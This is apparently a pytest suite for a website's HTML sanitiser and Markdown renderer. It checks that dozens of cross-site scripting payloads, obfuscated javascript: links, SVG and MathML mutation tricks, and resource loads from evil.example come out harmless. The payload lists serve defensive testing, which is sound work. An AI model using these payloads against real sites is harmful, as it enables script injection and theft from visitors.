"""What strangers write can neither run, nor call, nor pass itself off as a part of the page."""

from collections.abc import Callable
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from make_the_connection.content.grammar import markdown
from make_the_connection.render import Reader
from make_the_connection.render.words import clean, section_html
from make_the_connection.site import Site

# fmt: off
TAGS = {
    "a", "abbr", "b", "blockquote", "br", "cite", "code", "dd", "del", "div", "dl", "dt", "em", "h3", "h4", "h5", "h6",
    "hr", "i", "img", "li", "ol", "p", "pre", "q", "section", "small", "span", "strong", "sub", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}
ATTRIBUTES = {
    "alt", "aria-describedby", "class", "height", "href", "id", "lang", "loading", "rel", "scope", "src", "start",
    "style", "width",
}
CLASSES = {
    "admonition", "admonition-title", "citation", "footnote-backref", "footnote-item", "footnote-ref", "footnotes",
    "footnotes-list", "footnotes-sep", "note", "term", "tip", "warning",
}
# fmt: on
SCHEMES = {"", "http", "https", "mailto"}

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import "//evil.example"</script>',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ONERROR = "alert(1)">',
    '<img src="x` `onerror=alert(1)">',
    '<img src="//evil.example/pixel.png">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="https:/evil.example/pixel.png">',
    '<img src="/\\evil.example/pixel.png">',
    '<img src="/&#9;/evil.example/pixel.png">',
    '<img srcset="//evil.example/x.png 2x" src="a.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="a.png" style="background:url(//evil.example)">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    '<table><tr><td style="text-align:center;background:url(javascript:alert(1))">x</td></tr></table>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://evil.example/x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https://a.example" ping="//evil.example" onclick="alert(1)" target="_top">x</a>',
    '<a href="https://a.example" onmouseover=alert(1)//">x</a>',
    '<a href="https://a.example"style=display:block;position:fixed>x</a>',
    '<form action="//evil.example"><input name=x><button formaction="javascript:alert(1)">go</button></form>',
    '<button type="button" popovertarget="menu" aria-label="Meaning">x</button>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video poster="//evil.example/x.png" src="//evil.example/x.mp4"></video>',
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    '<div class="visually-hidden md-header">imitation</div>',
    '<p name="getElementById" form="x" contenteditable accesskey="x" tabindex="1">x</p>',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><%= 1 %>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<plaintext><b>x",
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<p>unclosed <a href='https://a.example' <b onclick=alert(1)",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](https://a.example "title\\" onclick=alert(1)")',
    '[x](<https://a.example/" onmouseover="alert(1)>)',
    '[x](plant:rose#"><script>alert(1)</script>)',
    "[x](plant:javascript:alert(1))",
    "[x](guide:../../evil)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](../https://evil.example/x.png)",
    "![x](../../https:/evil.example/x.png)",
    "![x](../javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](rose.png)',
    '![x](rose.png "\\" onerror=alert(1)")',
    "![x][r]\n\n[r]: //evil.example/x.png",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "!!! visually-hidden\n    x",
    '!!! "onclick=alert(1)\n    x',
    '```" onload="alert(1)\nx\n```',
    "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "| <script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "[see <b onclick=alert(1)> @jones-2020, p. <script>]",
    '[@jones-2020, " onclick="alert(1)]',
    "<script>\nalert(1)\n</script>",
    "<div\nonclick=alert(1)>\n\nx\n\n</div>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "a <!--> <script>alert(1)</script> -->",
    "**<a href=javascript:alert(1)>x</a>**",
    "`<script>`</code><script>alert(1)</script>",
]


class Walk(HTMLParser):
    """Collects whatever in a piece of HTML could run, load, or imitate."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.ids: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        self.ids += [value or "" for name, value in attributes if name == "id"]
        for name, value in attributes:
            self.wrong += [f"{tag} {name}={value}" for reason in self.reasons(tag, name, value or "") if reason]

    def reasons(self, tag: str, name: str, value: str) -> tuple[bool, ...]:
        # Browsers leave out tabs and line ends, and take \ for /.
        address = "".join(c for c in value if c > " ").replace("\\", "/")
        scheme = urlsplit(address).scheme if name in {"href", "src"} else ""
        return (
            name not in ATTRIBUTES,
            name.startswith("on"),
            name in {"href", "src"} and (scheme not in SCHEMES or address.startswith("//")),
            name == "src" and (tag != "img" or bool(scheme) or ":" in address.split("/")[0]),
            name == "style" and value.strip(";") not in {f"text-align:{side}" for side in ("left", "center", "right")},
            name == "class" and not set(value.split()) <= CLASSES,
        )

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")


@pytest.fixture(scope="module")
def shown(garden: Site) -> Callable[[str], str]:
    """The HTML of a stranger's Markdown on the rose's page."""
    reader = Reader(garden, "en", "plants/rose")
    entry = garden.entries["plant:rose"]
    return lambda text: str(section_html(markdown(reader.language).parse(text), reader, entry))


class TestTheWalk:
    """A check that cannot fail is worse than none."""

    @pytest.mark.parametrize(
        "html",
        [
            "<script>",
            "<p onclick=x>",
            "<a href=javascript:x>",
            "<a href='java\nscript:x'>",
            "<img src=//x>",
            "<img src=https:/x>",
            "<p class=md-header>",
            "<td style='color:red'>",
            "<!-- x -->",
            "<!doctype html>",
        ],
    )
    def test_sees_what_is_wrong(self, html: str) -> None:
        assert Walk(html).wrong

    def test_lets_pass_what_is_right(self) -> None:
        html = '<p class="admonition-title"><a href="../a.html#b">x</a><img src="a/b.png" alt=""></p>'
        assert Walk(html).wrong == []


class TestHostileHtml:
    @pytest.mark.parametrize("html", HTML)
    def test_comes_out_of_cleaning_harmless(self, html: str) -> None:
        assert Walk(clean(html)).wrong == []

    @pytest.mark.parametrize("html", HTML)
    def test_in_an_entry_is_shown_and_nothing_more(self, shown: Callable[[str], str], html: str) -> None:
        assert Walk(shown(html)).wrong == []
        assert Walk(shown(f"Words, {html} and words.")).wrong == []

    def test_is_as_harmless_after_a_second_cleaning(self) -> None:
        assert [html for html in HTML if clean(clean(html)) != clean(html)] == []

    def test_leaves_what_is_harmless(self) -> None:
        html = '<p>A <em>word</em>, <a href="https://a.example">a link</a>, <img src="rose/rose.png" alt="a rose"></p>'
        assert clean(html) == html


class TestHostileMarkdown:
    @pytest.mark.parametrize("text", MARKDOWN)
    def test_comes_out_harmless_wherever_it_stands(self, shown: Callable[[str], str], text: str) -> None:
        for first, further in (
            ("", ""),
            ("> ", "> "),
            ("- ", "  "),
            ("!!! note\n    ", "    "),
            ("x[^1]\n\n[^1]: ", "    "),
        ):
            assert Walk(shown(first + text.replace("\n", f"\n{further}"))).wrong == []

    @given(st.lists(st.sampled_from([*MARKDOWN, *HTML, "\n\n", "> ", "- ", "`", "[", "](", "<", "|", "*"]), max_size=6))
    def test_comes_out_harmless_in_any_mixture(self, shown: Callable[[str], str], parts: list[str]) -> None:
        assert Walk(shown("".join(parts))).wrong == []


class TestIds:
    def test_an_author_cannot_take_an_id_that_a_page_needs(self, written: Callable[..., object]) -> None:
        section = written("## Growing it {#growing}\n\n### A {#references}\n").words.sections["growing"]  # type: ignore[attr-defined]
        assert section.anchors == ("growing-references",)

    def test_an_author_s_html_brings_no_id(self, shown: Callable[[str], str]) -> None:
        walk = Walk(shown('<p id="references">x</p>\n\nx <a id="top" name="getElementById">'))
        assert walk.ids == []
